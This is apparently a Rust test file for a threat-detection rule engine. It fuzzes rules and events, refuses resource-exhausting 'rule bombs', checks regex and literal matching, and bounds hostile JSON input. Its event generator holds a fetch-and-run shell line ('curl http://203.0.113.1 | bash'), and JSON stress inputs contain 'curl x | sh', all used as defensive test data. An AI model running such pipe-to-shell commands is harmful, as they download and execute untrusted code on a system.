//! Hostile rules and events: never a panic, never without bound.

use hinomi_detect::{Engine, Examples, FieldMap, LogEngine, LogOptions, LogSource, RuleErrorCode, RuleSource, content};
use hinomi_model::{Event, Kind, Table, Timestamp, Value};
use proptest::prelude::*;
use std::time::Instant;

fn load(yaml: &str) -> (Engine, Vec<hinomi_detect::RuleError>) {
    Engine::load(&[RuleSource { path: "h.yml".to_owned(), yaml: yaml.to_owned() }], &content::embedded().fields)
}

fn rule(detection: &str) -> String {
    format!("title: t\nlogsource: {{product: hinomi, service: DeviceProcessEvents}}\ndetection:\n{detection}\n")
}

fn event() -> impl Strategy<Value = Event> {
    let text = prop_oneof![
        ".{0,40}",
        Just("/tmp/.x/a -c 'curl http://203.0.113.1 | bash'".to_owned()),
        Just("{\"Argv\":[1,{}],\"ScriptPath\":\"/tmp/x\"}".to_owned()),
        Just("{".to_owned()),
        Just("İſK\u{202e}\0".to_owned()),
    ];
    let cell = (any::<prop::sample::Index>(), text, any::<i64>());
    (0..Table::ALL.len(), prop::collection::vec(cell, 0..12)).prop_map(|(table, cells)| {
        let table = Table::ALL[table];
        let mut event = Event::new(table, Timestamp::from_micros(0));
        for (column, text, number) in cells {
            let column = column.get(table.columns());
            event.try_set(
                column.name,
                match column.kind {
                    Kind::String => Value::String(text),
                    Kind::Long => Value::Long(number),
                    Kind::Datetime => Value::Datetime(Timestamp::from_micros(number)),
                    Kind::Bool => Value::Bool(number % 2 == 0),
                },
            );
        }
        for action in ["ProcessCreated", "FileCreated", "ConnectionRequest", "HinomiDetection"] {
            if table != Table::EmailEvents && event.get("ActionType").is_none() && event.timestamp.as_micros() % 3 != 1
            {
                event.try_set("ActionType", Value::String(action.to_owned()));
            }
        }
        event
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_is_never_fatal(text in "\\PC{0,200}", yaml in "[a-z:|\\-\\[\\]{}*&!'\" \n#>?]{0,200}") {
        for text in [text.as_str(), &yaml] {
            load(text);
            load(&rule(text));
            load(&rule(&format!("  sel: {{FileName: a}}\n  condition: {text:?}")));
            let _ = FieldMap::parse("f.yml", text);
            let _ = Examples::parse("e.yml", text);
        }
    }

    #[test]
    fn arbitrary_values_and_modifiers(
        value in "\\PC{0,30}",
        modifiers in prop::collection::vec(prop::sample::select(vec![
            "contains", "startswith", "endswith", "all", "re", "i", "m", "s", "cidr", "windash", "base64", "base64offset",
            "exists", "cased", "lt", "gte", "fieldref", "wide", "utf16", "neq", "nope", "",
        ]), 0..4),
        event in event(),
    ) {
        let value = value.replace('\'', "''");
        let field = [vec!["ProcessCommandLine"], modifiers].concat().join("|");
        let (engine, _) = load(&rule(&format!("  sel:\n    '{field}': '{value}'\n  condition: sel")));
        engine.evaluate(&event);
    }

    #[test]
    fn arbitrary_events_are_never_fatal(event in event()) {
        for detection in content::engine().evaluate(&event) {
            prop_assert!(detection.matched.len() <= 20);
        }
    }

    /// A rule's expression fires exactly when the expression alone matches, whatever literals it waits for.
    #[test]
    fn expressions_agree_with_plain_search(
        pieces in prop::collection::vec(prop::sample::select(vec![
            "ab", "[kK]", "s", "(ab|Ba)", "(cd)?", "x+", "\\.", ".", "(?i:is)", "[^a]", "(a|b|\\d)", "c*", "^", "$", "K", "ß",
        ]), 1..6),
        value in "[abBcdxsSkK.\u{212a}\u{17f}ßẞ]{0,10}",
        insensitive in any::<bool>(),
    ) {
        let text = pieces.concat();
        let flag = if insensitive { "|i" } else { "" };
        let (engine, errors) = load(&rule(&format!("  sel:\n    FileName|re{flag}: '{text}'\n  condition: sel")));
        prop_assert!(errors.is_empty(), "{}", errors[0]);
        let plain = regex::RegexBuilder::new(&text).case_insensitive(insensitive).build().expect("valid");
        let mut event = Event::new(Table::DeviceProcessEvents, Timestamp::from_micros(0));
        event.set("FileName", value.as_str());
        prop_assert_eq!(!engine.evaluate(&event).is_empty(), plain.is_match(&value), "{} on {}", text, value);
    }

    /// What the automata and witnesses find is what a plain reading of the literal finds.
    #[test]
    fn literals_agree_with_plain_comparison(
        needles in prop::collection::vec("[aAbB/.ÄäK\u{212a}]{1,3}", 1..6),
        value in "[aAbB/.ÄäkK\u{212a}]{0,12}",
        cased in any::<bool>(),
    ) {
        let lower = |text: &str| text.chars().flat_map(char::to_lowercase).collect::<String>();
        for (modifier, holds) in [
            ("contains", (|value: &str, needle: &str| value.contains(needle)) as fn(&str, &str) -> bool),
            ("startswith", |value, needle| value.starts_with(needle)),
            ("endswith", |value, needle| value.ends_with(needle)),
        ] {
            let list = needles.join(", ");
            let cased_word = if cased { "|cased" } else { "" };
            let (engine, errors) =
                load(&rule(&format!("  sel:\n    FileName|{modifier}{cased_word}: [{list}]\n  condition: sel")));
            prop_assert!(errors.is_empty(), "{}", errors[0]);
            let mut event = Event::new(Table::DeviceProcessEvents, Timestamp::from_micros(0));
            event.set("FileName", value.as_str());
            let expected = needles.iter().any(|needle| match cased {
                true => holds(&value, needle),
                false => holds(&lower(&value), &lower(needle)),
            });
            prop_assert_eq!(!engine.evaluate(&event).is_empty(), expected);
        }
    }
}

#[test]
fn rule_bombs_are_refused() {
    let repeat = |text: &str, count: usize| text.repeat(count);
    let selection = format!("  sel: {{FileName: [{}]}}\n", repeat("a, ", 4_000));
    let cases = [
        ("deep nesting", rule(&format!("  sel: {}", repeat("[", 5_000))), RuleErrorCode::Limit),
        (
            "many values",
            rule(&format!("  sel: {{FileName: [{}]}}\n  condition: sel", repeat("1,", 60_000))),
            RuleErrorCode::Limit,
        ),
        ("long text", repeat("#", 600_000), RuleErrorCode::Limit),
        (
            "long condition",
            rule(&format!("  sel: {{FileName: a}}\n  condition: sel{}", repeat(" or sel", 2_000))),
            RuleErrorCode::Limit,
        ),
        (
            "deep condition",
            rule(&format!("  sel: {{FileName: a}}\n  condition: {}sel", repeat("not ", 500))),
            RuleErrorCode::Limit,
        ),
        (
            "deep parentheses",
            rule(&format!("  sel: {{FileName: a}}\n  condition: {}sel{}", repeat("(", 500), repeat(")", 500))),
            RuleErrorCode::Limit,
        ),
        (
            "repeated selection",
            rule(&format!("{selection}  condition: sel{}", repeat(" or sel", 20))),
            RuleErrorCode::Limit,
        ),
        (
            "many selections",
            rule(&format!(
                "{}  condition: 1 of s*",
                (0..300).map(|n| format!("  s{n}: {{FileName: a}}\n")).collect::<String>()
            )),
            RuleErrorCode::Limit,
        ),
        ("regex size", rule("  sel: {FileName|re: '((a{100}){100}){100}'}\n  condition: sel"), RuleErrorCode::Limit),
        (
            "windash",
            rule(&format!("  sel: {{FileName|windash|base64offset: '{}'}}\n  condition: sel", repeat(" -a", 9))),
            RuleErrorCode::Limit,
        ),
        ("alias", "a: &a [x]\nb: [*a, *a]\n".to_owned(), RuleErrorCode::Yaml),
    ];
    for (name, yaml, code) in cases {
        let started = Instant::now();
        let (engine, errors) = load(&yaml);
        assert!(engine.rules().is_empty(), "{name}");
        assert_eq!(errors[0].code, code, "{name}: {}", errors[0]);
        assert!(started.elapsed().as_secs() < 20, "{name} took {:?}", started.elapsed());
    }
}

#[test]
fn evaluation_time_grows_with_the_value_only_linearly() {
    let detection = "  sel:\n    ProcessCommandLine|re: '(a+)+b'\n  glob:\n    ProcessCommandLine: '*a*a*a*a*a*a*b'\n  \
                     text:\n    ProcessCommandLine|contains: aaaaaaaaaaaaaaaab\n  condition: 1 of them";
    let (engine, errors) = load(&rule(detection));
    assert!(errors.is_empty(), "{}", errors[0]);
    let time = |length: usize| {
        let mut event = Event::new(Table::DeviceProcessEvents, Timestamp::from_micros(0));
        event.set("ProcessCommandLine", "a".repeat(length));
        // the best of several runs: the machine may be busy
        (0..5)
            .map(|_| {
                let started = Instant::now();
                assert!(engine.evaluate(&event).is_empty());
                started.elapsed()
            })
            .min()
            .expect("runs")
    };
    time(1_000);
    let (short, long) = (time(2_000), time(32_000));
    // sixteen times the text; a quadratic engine would need 256 times the time
    assert!(long < short * 100, "{short:?} for 2 kB, {long:?} for 32 kB");
}

#[test]
fn hostile_json_is_bounded() {
    let (engine, _) = LogEngine::load(&content::embedded().rules, &LogOptions::default());
    let kind = engine.kind(&[LogSource::new("linux", "process_creation", "")]);
    let (mut record, mut scratch) = (engine.record(), engine.scratch());
    for bytes in [&b"{\"a\":\"\xff\"}"[..], b"[1]", b"{\"a\":", b"{\"CommandLine\":\"x", b"null", b"{1:2}"] {
        record.clear();
        assert!(record.read_json(bytes).is_err(), "{bytes:?}");
        engine.matches(&record, &kind, &mut scratch);
    }
    let deep = format!("{}1{}", r#"{"a":"#.repeat(2_000), "}".repeat(2_000));
    let long = format!(r#"{{"CommandLine":"{}curl x | sh","Image":"/usr/bin/bash"}}"#, r"a\u0000-".repeat(1_500_000));
    let wide = format!(r#"{{"CommandLine":[{}"z"]}}"#, r#""/bin/sh -c x","#.repeat(20_000));
    let many = format!("{{{}\"z\":1}}", r#""CommandLine":"curl","#.repeat(150_000));
    for (name, text, dropped) in [("deep", deep, 1), ("long", long, 0), ("wide", wide, 1), ("many", many, 1)] {
        record.clear();
        let before = record.dropped();
        record.read_json(text.as_bytes()).expect(name);
        engine.matches(&record, &kind, &mut scratch);
        assert_eq!((record.dropped() - before).min(1), dropped, "{name}");
    }
}
